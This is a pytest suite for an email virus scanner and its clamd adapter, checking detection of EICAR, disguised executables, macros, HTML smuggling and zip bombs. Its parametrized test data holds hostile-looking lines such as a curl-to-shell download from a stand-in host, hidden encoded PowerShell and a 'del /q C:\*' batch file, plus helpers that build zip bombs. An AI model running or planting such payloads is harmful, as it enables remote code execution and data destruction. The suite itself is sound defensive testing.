"""Virus scanners: the built-in one, and the clamd adapter against a fake and (when installed) a real clamd."""

import gzip
import io
import json
import shutil
import socket
import struct
import subprocess
import tarfile
import threading
import time
import tracemalloc
import zipfile
from dataclasses import asdict
from email.message import EmailMessage
from pathlib import Path

import pytest

from inbound.filters import reset_filters
from inbound.filters.virus import (
    ATTACHMENT_REASONS,
    EICAR,
    BuiltinScanner,
    ClamdScanner,
    VirusVerdict,
    get_virus_scanner,
)
from mailboxes.models import Attachment
from mailboxes.parsing import parse_message
from tests.support.fake_clamd import FakeClamd
from tests.support.smtp_server import free_port

# --- building test mail ------------------------------------------------------------


def mail(*attachments: tuple[str, bytes, str], body: str = "Please find the file attached.") -> bytes:
    """A message as a mail client sends it: text body, attachments base64-encoded."""
    message = EmailMessage()
    message["From"] = "Sender <sender@remote.example>"
    message["To"] = "alice@example.test"
    message["Subject"] = "The file"
    message["Message-ID"] = "<file@remote.example>"
    message.set_content(body)
    for filename, content, content_type in attachments:
        maintype, subtype = content_type.split("/")
        message.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes()


def zipped(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def pe_executable() -> bytes:
    """The first bytes of a Windows executable: a DOS header pointing at a PE header."""
    header = bytearray(b"MZ" + b"\x90\x00\x03" + b"\x00" * 59)
    header[60:64] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(header) + stub.ljust(0x80 - 64, b"\x00")
    return body + b"PE\x00\x00" + b"\x4c\x01\x03\x00" + b"\x00" * 400


def pdf_document() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def zeros_zip(size: int, *, zip64: bool = True) -> bytes:
    """A small zip holding ``size`` zero bytes (written in pieces: the test never holds them all)."""
    buffer = io.BytesIO()
    piece = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=zip64) as member,
    ):
        for _ in range(size // len(piece)):
            member.write(piece)
    return buffer.getvalue()


def with_declared_size(data: bytes, size: int) -> bytes:
    """A zip whose headers lie about its only member's uncompressed size (as a crafted bomb's do)."""
    data = bytearray(data)
    struct.pack_into("<I", data, data.find(b"PK\x03\x04") + 22, size)
    struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, size)
    return bytes(data)


def mark_encrypted(data: bytes) -> bytes:
    """Set the "encrypted" flag on every member, as a password-protected zip has it."""
    data = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        while position >= 0:
            data[position + flag_offset] |= 0x01
            position = data.find(signature, position + 4)
    return bytes(data)


PATCH = b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"


def scan(scanner, raw: bytes) -> VirusVerdict:
    return scanner.scan(raw=raw, parsed=parse_message(raw))


# --- the contract every scanner keeps -----------------------------------------------------


class VirusScannerContract:
    """Runs against every scanner: subclasses provide the ``scanner`` fixture."""

    def test_plain_mail_is_clean(self, scanner):
        verdict = scan(scanner, mail(body="Lunch on Thursday?"))
        assert verdict == VirusVerdict(infected=False, names=[], scanner=scanner.name, findings=[], notes=verdict.notes)
        assert verdict.clean

    def test_eicar_attachment_is_infected(self, scanner):
        verdict = scan(scanner, mail(("eicar.com.txt", EICAR, "application/octet-stream")))
        assert verdict.infected
        assert any("eicar" in name.lower() for name in verdict.names)
        assert not verdict.error

    def test_verdict_is_json_safe(self, scanner):
        verdict = scan(scanner, mail(("eicar.txt", EICAR, "text/plain")))
        assert json.loads(json.dumps(asdict(verdict)))["infected"] is True

    def test_garbage_input_gives_a_verdict(self, scanner):
        raw = b"\x00\xff" * 1000 + b"\r\n\r\n--"
        assert isinstance(scan(scanner, raw), VirusVerdict)


# --- the built-in scanner --------------------------------------------------------------


class TestBuiltinScanner(VirusScannerContract):
    @pytest.fixture
    def scanner(self):
        return BuiltinScanner()

    def test_eicar_in_the_body_is_infected(self, scanner):
        verdict = scan(scanner, mail(body=f"Test: {EICAR.decode()}"))
        assert verdict.names == ["Eicar-Test-Signature"]

    def test_eicar_base64_attachment_is_found_decoded(self, scanner):
        raw = mail(("report.txt", EICAR, "text/plain"))
        assert EICAR not in raw  # only the decoded part holds it
        verdict = scan(scanner, raw)
        assert verdict.names == ["Eicar-Test-Signature"]
        assert verdict.findings == [
            {"name": "Eicar-Test-Signature", "where": "report.txt", "attachment": 0, "action": "quarantine"}
        ]

    def test_eicar_in_a_zip_is_infected(self, scanner):
        verdict = scan(scanner, mail(("files.zip", zipped(("eicar.com", EICAR)), "application/zip")))
        assert "Eicar-Test-Signature" in verdict.names
        assert verdict.findings[0]["where"] == "files.zip › eicar.com"

    def test_eicar_in_a_nested_zip_is_infected(self, scanner):
        inner = zipped(("deep/eicar.txt", EICAR))
        outer = zipped(("inner.zip", zipped(("middle.zip", inner))))
        verdict = scan(scanner, mail(("outer.zip", outer, "application/zip")))
        assert verdict.names == ["Eicar-Test-Signature"]
        assert verdict.findings[0]["where"] == "outer.zip › inner.zip › middle.zip › deep/eicar.txt"

    def test_eicar_in_a_tar_gz_is_infected(self, scanner):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            info = tarfile.TarInfo("docs/eicar.txt")
            info.size = len(EICAR)
            archive.addfile(info, io.BytesIO(EICAR))
        verdict = scan(scanner, mail(("docs.tar.gz", gzip.compress(buffer.getvalue()), "application/gzip")))
        assert verdict.names == ["Eicar-Test-Signature"]

    def test_eicar_in_an_attached_message_is_infected(self, scanner):
        inner = mail(("eicar.txt", EICAR, "text/plain"))
        message = EmailMessage()
        message["From"] = "a@remote.example"
        message["Subject"] = "Fwd"
        message.set_content("See below.")
        message.add_attachment(inner, maintype="message", subtype="rfc822", filename="original.eml")
        raw = message.as_bytes()
        parsed = parse_message(raw)
        assert parsed.attachments[0].content_type == "message/rfc822"
        assert scanner.scan(raw=raw, parsed=parsed).names == ["Eicar-Test-Signature"]

    def test_executable_renamed_pdf_is_detected_by_content(self, scanner):
        verdict = scan(scanner, mail(("invoice.pdf", pe_executable(), "application/pdf")))
        assert verdict.names == ["Exe.PE.Attachment"]

    def test_executable_inside_a_zip_is_detected(self, scanner):
        verdict = scan(scanner, mail(("invoice.zip", zipped(("invoice.pdf", pe_executable())), "application/zip")))
        assert verdict.names == ["Exe.PE.Attachment"]

    def test_pdf_that_is_a_pdf_is_clean(self, scanner):
        verdict = scan(scanner, mail(("invoice.pdf", pdf_document(), "application/pdf")))
        assert verdict.clean
        assert verdict.names == []

    def test_office_documents_and_images_are_clean(self, scanner):
        docx = zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"))
        png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
        verdict = scan(scanner, mail(("report.docx", docx, "application/octet-stream"), ("a.png", png, "image/png")))
        assert verdict.clean

    @pytest.mark.parametrize(
        ("content", "name"),
        [
            (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "Exe.ELF.Attachment"),
            (b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "Exe.MachO.Attachment"),
            (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60, "Exe.JavaClass.Attachment"),
            (bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60, "Exe.LNK.Attachment"),
            (pe_executable(), "Exe.PE.Attachment"),
        ],
    )
    def test_an_executable_disguised_as_a_text_file_is_quarantined(self, scanner, content, name):
        verdict = scan(scanner, mail(("notes.txt", content, "application/octet-stream")))
        assert verdict.infected
        assert verdict.names == [name]

    @pytest.mark.parametrize(
        ("content", "name"),
        [
            (b"#!/bin/sh\ncurl http://x.example/a | sh\n", "Script.Shebang.Attachment"),
            (b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c calc"\n', "Script.WSH.Attachment"),
            (b"var x = new ActiveXObject('WScript.Shell'); x.Run('calc');", "Script.WSH.Attachment"),
            (b'<html><head><HTA:APPLICATION ID="x"/></head></html>', "Script.HTA.Attachment"),
            (b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "Script.PowerShell.Attachment"),
            (b"@echo off\r\ndel /q C:\\*\r\n", "Script.Batch.Attachment"),
        ],
    )
    def test_a_script_under_a_name_that_does_not_run_it_is_delivered_with_a_warning(self, scanner, content, name):
        verdict = scan(scanner, mail(("body.txt", b"see notes", "text/plain"), ("notes.txt", content, "text/plain")))
        assert not verdict.infected and verdict.names == []
        assert verdict.findings == [{"name": name, "where": "notes.txt", "attachment": 1, "action": "warn"}]
        assert verdict.attachment_actions() == {1: ("warn", "script")}

    @pytest.mark.parametrize(
        ("filename", "content", "content_type"),
        [
            ("fix_parser.py", b"#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n", "text/x-python"),
            ("build.sh", b"#!/bin/sh\nset -e\nmake all\n", "application/x-sh"),
            ("report.pl", b"#!/usr/bin/perl\nuse strict;\nprint 1;\n", "text/x-perl"),
            ("rake.rb", b"#!/usr/bin/env ruby\nputs 1\n", "application/x-ruby"),
            ("0001-fix.patch", PATCH, "text/x-diff"),
            ("example.py", b"def main():\n    return 1\n", "text/x-python"),
        ],
    )
    def test_a_script_or_patch_in_a_list_post_is_no_virus(self, scanner, filename, content, content_type):
        verdict = scan(scanner, mail((filename, content, content_type)))
        assert not verdict.infected and not verdict.error
        assert {action for action, _ in verdict.attachment_actions().values()} <= {"warn"}

    def test_an_honestly_named_program_is_blocked_not_quarantined(self, scanner):
        verdict = scan(scanner, mail(("setup.exe", pe_executable(), "application/x-msdownload")))
        assert not verdict.infected
        assert verdict.attachment_actions() == {0: ("block", "program")}

    def test_a_zip_holding_an_honestly_named_program_is_blocked(self, scanner):
        verdict = scan(scanner, mail(("tools.zip", zipped(("setup.exe", pe_executable())), "application/zip")))
        assert not verdict.infected
        assert verdict.attachment_actions() == {0: ("block", "program")}

    @pytest.mark.parametrize("filename", ["invoice.pdf.exe", "Invoice.PDF      .exe", "photo.jpg.scr", "scan.doc.js"])
    def test_a_double_extension_is_quarantined(self, scanner, filename):
        verdict = scan(scanner, mail((filename, b"MZ whatever", "application/octet-stream")))
        assert verdict.names == ["Heuristics.Filename.DoubleExtension"]

    def test_a_program_sent_as_a_document_type_is_quarantined(self, scanner):
        verdict = scan(scanner, mail(("invoice.exe", b"not recognisable", "application/pdf")))
        assert verdict.names == ["Heuristics.Filename.TypeMismatch"]

    def test_html_smuggling_is_blocked(self, scanner):
        page = (
            b"<html><script>var b = new Blob([atob('TVqQ')]); var a = document.createElement('a');"
            b"a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script></html>"
        )
        verdict = scan(scanner, mail(("invoice.html", page, "text/html")))
        assert not verdict.infected
        assert verdict.findings[0]["name"] == "Html.Smuggling.Attachment"
        assert verdict.attachment_actions() == {0: ("block", "active_content")}

    def test_macro_enabled_office_document_is_blocked(self, scanner):
        docm = zipped(("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60))
        verdict = scan(scanner, mail(("report.docx", docm, "application/octet-stream")))
        assert not verdict.infected
        assert [f["name"] for f in verdict.findings] == ["Doc.Macro.OOXML"]
        assert verdict.attachment_actions() == {0: ("block", "macro")}

    def test_legacy_office_document_with_macros_is_blocked(self, scanner):
        doc = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 500 + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
        verdict = scan(scanner, mail(("report.doc", doc, "application/msword")))
        assert [f["name"] for f in verdict.findings] == ["Doc.Macro.OLE2"]
        assert verdict.attachment_actions() == {0: ("block", "macro")}

    def test_macros_may_be_allowed(self):
        docm = zipped(("word/vbaProject.bin", b"\0" * 64))
        verdict = scan(BuiltinScanner(BLOCK_MACROS=False), mail(("report.docm", docm, "application/octet-stream")))
        assert verdict.clean

    def test_dangerous_file_name_is_blocked_even_without_recognisable_content(self, scanner):
        verdict = scan(scanner, mail(("update.js", b"var a = 1;", "text/javascript")))
        assert not verdict.infected
        assert [f["name"] for f in verdict.findings] == ["Heuristics.Executable.Extension"]
        assert verdict.attachment_actions() == {0: ("block", "program")}

    def test_right_to_left_override_in_a_file_name_is_refused(self, scanner):
        verdict = scan(scanner, mail(("invoice\u202efdp.txt", b"hello", "text/plain")))
        assert verdict.names == ["Heuristics.Filename.RTLO"]

    def test_zip_bomb_is_detected_without_inflating_it(self, scanner):
        bomb = zeros_zip(64 * 1024 * 1024)
        assert len(bomb) < 200_000
        raw = mail(("photos.zip", bomb, "application/zip"))
        tracemalloc.start()
        try:
            verdict = scan(scanner, raw)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert verdict.names == ["Archive.Bomb"]
        assert any("compression ratio" in note for note in verdict.notes)
        assert peak < 16 * 1024 * 1024

    def test_zip_bomb_with_lying_headers_stops_at_the_ratio(self, scanner):
        bomb = with_declared_size(zeros_zip(64 * 1024 * 1024, zip64=False), 1000)
        tracemalloc.start()
        try:
            verdict = scan(scanner, mail(("photos.zip", bomb, "application/zip")))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert verdict.names == ["Archive.Bomb"]
        assert peak < 24 * 1024 * 1024  # a few megabytes inflated, never 64

    def test_gzip_bomb_is_detected(self, scanner):
        bomb = gzip.compress(b"\x00" * (32 * 1024 * 1024))
        verdict = scan(scanner, mail(("data.gz", bomb, "application/gzip")))
        assert verdict.names == ["Archive.Bomb"]

    def test_archives_nested_too_deep_are_a_bomb(self, scanner):
        archive = zipped(("readme.txt", b"hello"))
        for level in range(8):
            archive = zipped((f"level{level}.zip", archive))
        verdict = scan(scanner, mail(("deep.zip", archive, "application/zip")))
        assert verdict.names == ["Archive.Bomb"]
        assert any("nested too deeply" in note for note in verdict.notes)

    def test_archive_with_too_many_members_is_a_bomb(self):
        archive = zipped(*[(f"f{i}.txt", b"x") for i in range(30)])
        verdict = scan(BuiltinScanner(MAX_ENTRIES=20), mail(("many.zip", archive, "application/zip")))
        assert verdict.names == ["Archive.Bomb"]

    def test_encrypted_zip_is_not_infected_but_noted(self, scanner):
        archive = mark_encrypted(zipped(("secret.pdf", b"\x8a\x91 ciphertext")))
        verdict = scan(scanner, mail(("secret.zip", archive, "application/zip")))
        assert verdict.clean
        assert verdict.notes == ["secret.zip › secret.pdf: encrypted, not scanned"]

    def test_executable_name_inside_an_encrypted_zip_is_quarantined(self, scanner):
        archive = mark_encrypted(zipped(("invoice.exe", b"\x8a\x91 ciphertext")))
        verdict = scan(scanner, mail(("invoice.zip", archive, "application/zip")))
        assert verdict.names == ["Heuristics.Encrypted.Executable"]

    def test_corrupt_zip_is_noted_not_infected(self, scanner):
        verdict = scan(scanner, mail(("broken.zip", b"PK\x03\x04" + b"\x00" * 50, "application/zip")))
        assert verdict.clean
        assert verdict.notes

    def test_scanner_errors_become_an_error_verdict(self, scanner, monkeypatch):
        def broken(*args, **kwargs):
            raise RuntimeError("bug")

        monkeypatch.setattr(scanner, "_scan_message", broken)
        verdict = scan(scanner, mail())
        assert not verdict.infected
        assert verdict.error == "scan failed: RuntimeError: bug"
        assert not verdict.clean


def test_every_reason_the_scanner_gives_is_one_a_mailbox_can_show():
    assert set(ATTACHMENT_REASONS.values()) <= set(Attachment.ScanReason.values) - {""}


def test_default_scanner_is_builtin(settings):
    reset_filters()
    settings.INBOUND_VIRUS_SCANNER = {}
    assert isinstance(get_virus_scanner(), BuiltinScanner)


def test_configured_clamd_scanner_is_built_once(settings):
    reset_filters()
    settings.INBOUND_VIRUS_SCANNER = {"BACKEND": "inbound.filters.virus.ClamdScanner", "OPTIONS": {"URL": "tcp://h:1"}}
    scanner = get_virus_scanner()
    assert isinstance(scanner, ClamdScanner)
    assert get_virus_scanner() is scanner
    reset_filters()


# --- clamd ------------------------------------------------------------------------------


@pytest.fixture
def fake_clamd():
    server = FakeClamd().start()
    yield server
    server.stop()


class TestClamdScannerAgainstFakeClamd(VirusScannerContract):
    @pytest.fixture
    def scanner(self, fake_clamd):
        return ClamdScanner(URL=fake_clamd.url, TIMEOUT=5)

    def test_message_is_streamed_in_chunks(self, scanner, fake_clamd):
        raw = mail(("big.bin", b"\x01" * 200_000, "application/octet-stream"))
        scanner.chunk_size = 65536
        assert scan(scanner, raw).clean
        assert fake_clamd.state.streams == [raw]
        assert fake_clamd.state.chunk_sizes[0][:3] == [65536, 65536, 65536]
        assert fake_clamd.state.commands == ["INSTREAM"]

    def test_found_reply_gives_the_signature_name(self, scanner):
        verdict = scan(scanner, mail(body=EICAR.decode()))
        assert verdict.infected
        assert verdict.names == ["Eicar-Signature"]
        assert verdict.findings == [
            {"name": "Eicar-Signature", "where": "message", "attachment": None, "action": "quarantine"}
        ]

    def test_size_limit_reply_is_an_error(self, fake_clamd):
        fake_clamd.state.max_stream = 1000
        verdict = scan(ClamdScanner(URL=fake_clamd.url, CHUNK_SIZE=512), mail(body="x" * 5000))
        assert not verdict.infected
        assert "size limit exceeded" in verdict.error

    def test_message_over_max_bytes_is_sent_in_part_and_noted(self, fake_clamd):
        raw = mail(body="x" * 5000)
        verdict = scan(ClamdScanner(URL=fake_clamd.url, MAX_BYTES=1000), raw)
        assert verdict.clean
        assert fake_clamd.state.streams == [raw[:1000]]
        assert verdict.notes == [f"only the first 1000 of {len(raw)} bytes were sent to clamd"]

    def test_ping_and_version(self, scanner):
        assert scanner.ping()
        assert scanner.version().startswith("ClamAV")


def test_clamd_connection_refused_is_an_error_verdict():
    verdict = scan(ClamdScanner(URL=f"tcp://127.0.0.1:{free_port()}", TIMEOUT=2), mail())
    assert not verdict.infected
    assert verdict.error.startswith("clamd at tcp://127.0.0.1:")
    assert not verdict.clean


def test_clamd_that_hangs_up_without_answering_is_an_error_verdict():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]

    def hang_up():
        connection, _ = listener.accept()
        connection.recv(10)
        connection.close()

    thread = threading.Thread(target=hang_up, daemon=True)
    thread.start()
    verdict = scan(ClamdScanner(URL=f"tcp://127.0.0.1:{port}", TIMEOUT=2), mail())
    thread.join(5)
    listener.close()
    assert not verdict.infected
    assert verdict.error


def test_clamd_url_must_be_tcp_or_unix():
    with pytest.raises(ValueError, match="tcp://host:port"):
        ClamdScanner(URL="http://clamav:3310")


# --- the real clamd, when it is installed ------------------------------------------------


@pytest.fixture(scope="session")
def real_clamd(tmp_path_factory):
    """ClamAV's clamd on loopback with a one-signature database (EICAR), if the binary is installed.

    The official databases cannot be downloaded here, so the test database is
    written on the spot; that is enough to exercise the real protocol.
    """
    binary = shutil.which("clamd") or next((p for p in ("/usr/sbin/clamd",) if Path(p).exists()), None)
    if binary is None:
        pytest.skip("clamd is not installed")
    folder = tmp_path_factory.mktemp("clamd")
    (folder / "db").mkdir()
    (folder / "db" / "test.ndb").write_text(f"Eicar-Test-Signature:0:*:{EICAR.hex()}\n")
    port = free_port()
    config = folder / "clamd.conf"
    config.write_text(
        f"Foreground yes\nTCPSocket {port}\nTCPAddr 127.0.0.1\nDatabaseDirectory {folder / 'db'}\n"
        f"LogFile {folder / 'clamd.log'}\n"
    )
    process = subprocess.Popen(  # noqa: S603 - a fixed binary and arguments
        [binary, "-c", str(config)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    scanner = ClamdScanner(URL=f"tcp://127.0.0.1:{port}", TIMEOUT=10)
    deadline = time.monotonic() + 60
    while not scanner.ping():
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            pytest.skip("clamd did not start")
        time.sleep(0.2)
    yield scanner
    process.terminate()
    process.wait(10)


class TestClamdScannerAgainstRealClamd(VirusScannerContract):
    @pytest.fixture
    def scanner(self, real_clamd):
        return real_clamd

    def test_eicar_in_a_zip_is_found_by_clamav(self, scanner):
        verdict = scan(scanner, mail(("files.zip", zipped(("eicar.com", EICAR)), "application/zip")))
        assert verdict.infected
        assert verdict.names[0].startswith("Eicar-Test-Signature")


def test_clamd_url_in_the_environment_is_honoured_by_settings_shape(settings, fake_clamd):
    """What settings.py builds from CLAMD_URL: the adapter with that URL."""
    reset_filters()
    settings.INBOUND_VIRUS_SCANNER = {
        "BACKEND": "inbound.filters.virus.ClamdScanner",
        "OPTIONS": {"URL": fake_clamd.url},
    }
    assert scan(get_virus_scanner(), mail(body=EICAR.decode())).names == ["Eicar-Signature"]
    reset_filters()
